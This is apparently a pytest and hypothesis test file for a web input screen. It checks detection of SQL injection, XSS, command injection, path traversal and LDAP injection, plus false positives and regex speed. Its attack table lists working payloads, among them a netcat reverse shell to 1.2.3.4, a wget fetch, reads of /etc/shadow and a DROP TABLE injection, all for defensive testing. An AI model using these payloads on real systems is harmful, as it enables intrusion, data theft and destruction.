"""The screen: near-certain attacks are found, prose and everyday values are not, and no text makes it slow."""

from __future__ import annotations

import unicodedata
from time import thread_time

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from wsgi_guard.validation.threats.classes import CLASSES
from wsgi_guard.validation.threats.normalise import decoded
from wsgi_guard.validation.threats.screen import FINDERS, Finding, is_plain, screen

ATTACKS: dict[str, tuple[str, ...]] = {
    "sqli": (
        "' OR '1'='1", "' or 1=1--", '" or ""="', "admin'--", "admin' #", "1 OR 1=1", "1) or (1=1", "1' and 1=1 -- -",
        "' UNION SELECT null, version()--", "1 union all select 1,2,3", "1/**/union/**/select/**/1,2",
        "x'; DROP TABLE users; --",
        "1; waitfor delay '0:0:5'--", "1 and sleep(5)", "' and benchmark(5000000,md5(1))#", "1' order by 10--",
        "' and extractvalue(1,concat(0x7e,version()))--", "x' || (select password from users) || '", "') or ('a'='a",
        "1 and (select count(*) from users) > 0", "%27%20or%20%271%27%3D%271", "%2527 or 1=1--", "＇ or 1=1--",
        "'; exec xp_cmdshell('dir')--", "1'/*!50000union*/ /*!50000select*/ 1", "' having 1=1--",
        "x' and ascii(substring(user(),1,1))>64--",
    ),
    "xss": (
        "<script>alert(1)</script>", "<ScRiPt src=//x>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
        '" onmouseover="alert(1)', "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)",
        "&#106;avascript:alert(1)",
        "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<b>'>", "%3Cscript%3Ealert(1)%3C/script%3E",
        "<a href=\"javascript:x()\">",
        "&lt;script&gt;", "\\u003cscript\\u003e", "＜script＞", "data:text/html,<b>", "';alert(1)//", "${alert(1)}",
        "<body onload=x>",
        "<math><a xlink:href=javascript:x>", "<meta http-equiv=refresh content=0>", "<object data=data:text/html,x>",
        "alert(1)",
    ),
    "cmdi": (
        "; cat /etc/hosts", "| id", "&& whoami", "`id`", "$(id)", "; ls -la", "|| ping -c 4 10.0.0.1",
        "x;wget http://x/y",
        "x\ncat /etc/group", "() { :;}; echo x", "{cat,/etc/issue}", "; c''at /etc/issue", ";cat${IFS}/etc/issue",
        "| nc -e /bin/sh 1.2.3.4 80",
        "& dir /s", "cmd /c dir", "powershell.exe -enc JABz==", "%0aid",
    ),
    "traversal": (
        "../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "%252e%252e%252fetc%252fpasswd", "/etc/shadow",
        "....//....//etc/passwd", "..;/..;/admin", "file:///etc/hosts", "php://filter/resource=x", "/proc/self/environ",
        "c:\\windows\\system32\\cmd.exe", "images/../../secret", "x.php\x00.jpg", "%c0%ae%c0%ae/%c0%ae%c0%ae/x",
        "/.git/config", "/WEB-INF/web.xml",
    ),
    "ldap": ("*)(uid=*))(|(uid=*", "admin)(&)", "x)(|(cn=*))", "*)(objectClass=*", "a))(|(mail=*)"),
}  # fmt: skip
INNOCENT = (
    "O'Brien", "D'Arcy & Sons", "it's 5 o'clock", "rock 'n' roll", "select a plan from our union",
    "Please select * from the menu",
    "the students' union will select a new chair", "drop table reservations by 5", "1 or 2 of them", "5 and 6 = 11",
    "a = b or c = d",
    "what's up -- nothing", "see #5; thanks", "C# and C++", "e = mc^2", "5 > 3 and 2 < 4", "this is not funny",
    "having friends over is nice",
    "order by 5 pm", "group by group", "union jack", "credit union select committee", "insert coin", "null",
    "true or false",
    "<3 this", "a < b > c", "<b>bold</b> and <i>italic</i>", "<p style='color: red'>x</p>",
    "<a href='https://example.org/?a=1&b=2'>x</a>",
    "**markdown** with `code` and [link](https://example.org)", "JavaScript: the good parts", "on time = good",
    "onboarding=yes",
    "https://example.org/path?x=1&y=2#top", "https://example.org/a/../b", "mailto:a@example.org", "john+or@var.es",
    "R&D; Q&A", "salt & pepper; find the cat", "cat food; dog food", "a | b", "$5 (or $6)",
    "use `id` as the key name", "100% sure",
    "..", "v1.2..v1.3", "...and so on...", "and/or", "w/o", "C:\\Users\\Anna\\Documents", "etc/", "/etc", "passwd",
    "f(x) (y)", "(a) or (b)", "1) one 2) two", "smile :) (really)", "* item",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-_123",
    "aGVsbG8gd29ybGQ=", "query { user(id: 1) { name } }", '{"json": "inside", "n": [1, 2]}',
    "SELECT is a keyword; so is FROM",
    "お世話になっております。", "Это 'просто' текст -- да", "L'été, c'est l'Arc de Triomphe; voilà", "naïve café №1 ½",
    "6' 2\" tall", "the dogs' and cats' food",
)  # fmt: skip


@pytest.mark.parametrize(("kind", "value"), [(kind, value) for kind in ATTACKS for value in ATTACKS[kind]])
def test_attacks_are_found(kind: str, value: str) -> None:
    found = screen(value, (kind,))
    assert found is not None
    assert found.kind == kind


@pytest.mark.parametrize("value", INNOCENT)
def test_ordinary_text_is_left_alone(value: str) -> None:
    assert screen(value, CLASSES) is None


def test_tables_are_whole() -> None:
    assert {kind: len(values) for kind, values in ATTACKS.items()} == {
        "sqli": 27, "xss": 24, "cmdi": 18, "traversal": 16, "ldap": 5,
    }  # fmt: skip
    assert len(INNOCENT) == 70
    assert tuple(FINDERS) == CLASSES


def test_only_the_wanted_classes_are_looked_for() -> None:
    assert screen("<script>", ("sqli", "cmdi")) is None
    assert screen("<script>", ("sqli", "xss")) == Finding("xss", "script-tag")
    assert screen("<script>", ()) is None


# What attacks are made of, glued together at random: the gate must not pass what a rule would match.
PIECES = st.sampled_from([
    "union", "select", "or", "and", "not", "1", "12", "null", "from", "sleep", "users", "order", "by", "having",
    "like", "in",
    "waitfor", "delay", "exec", "script", "javascript", "on", "onerror", "alert", "cat", "id", "ls", "etc", "passwd",
    "..", ".",
    ",", ":", "-", "--", "@@", "@", "version", "_", "objectclass", "data", "win.ini", "\u2474", "\uff55nion",
    "\uff53elect", "\u00bd", "\u00e9",
])  # fmt: skip


@settings(max_examples=500)
@given(st.lists(PIECES, max_size=10), st.sampled_from(["", " "]))
@example(["1", "union", "select", "null", ",", "12"], " ")
def test_plain_text_matches_no_rule(pieces: list[str], between: str) -> None:
    value = between.join(pieces)
    if is_plain(value):
        assert [kind for kind in CLASSES if FINDERS[kind](decoded(value))] == []


@given(st.text("\u2474\u00bd\u212b\ufb01\uff41\u3400\u00e9\u0430 ab1._-", max_size=30))
def test_plain_text_stays_plain_in_compatibility_form(value: str) -> None:
    if is_plain(value):
        assert is_plain(unicodedata.normalize("NFKC", value))


@given(st.text() | st.lists(PIECES | st.text("'\"<>()=;|&`$\\/%*#\n ", max_size=3), max_size=20).map("".join))
def test_any_text_is_judged(value: str) -> None:
    screen(value, CLASSES)


# Each rule is pumped with what its repetitions feed on. 64 KiB must take milliseconds; a quadratic rule takes minutes.
SEEDS = (
    "'", '"', "`", ")", "(", " ", "\t", "\n", ";", ",", "|", "&", "=", "<", ">", "/", "\\", "%", "#", "-", "*", "+",
    "$", "{", ".", "\x00", "a", "1",
    "' or ", "'or'", "1 or ", "') ", "' (", "1)", "1;", "/*", "*/", "/**/", "/*!", "--", "union ", "select ",
    "select from ", "union select ",
    "<a ", "<a", "<img ", "< ", "<svg/", "<style", "style=", "on", "onerror", "onerror ", " on", "on=", "<!--", "<?",
    "&lt;", "&#60;", "&amp;", "\\u003c",
    "javascript:", "data:", "script", ";cat", "; cat ", "| id", "$(", "${", "{cat,", "cmd ", "`id ", "$ifs", "''",
    "a''", "../", "..;/", ".../", "/./",
    "etc/", "proc/1", "/etc/", "%2e", "%25", "%u0027", "%c0%ae", "*)", ")(", "*)(", ")(a", "objectclass ",
    "objectclass=", "waitfor ", "x_", "@@", "0x", "é", "＜",
)  # fmt: skip
PREFIXES = ("", "'", "<a ")


@pytest.mark.parametrize("prefix", PREFIXES)
def test_time_grows_with_length_alone(prefix: str) -> None:
    slow = []
    for seed in SEEDS:
        value = (prefix + seed * 65_536)[:65_536]
        for kind in CLASSES:
            begin = thread_time()
            screen(value, (kind,))
            if thread_time() - begin > 2:
                slow.append((kind, seed))
    assert slow == []
    assert len(SEEDS) == 99
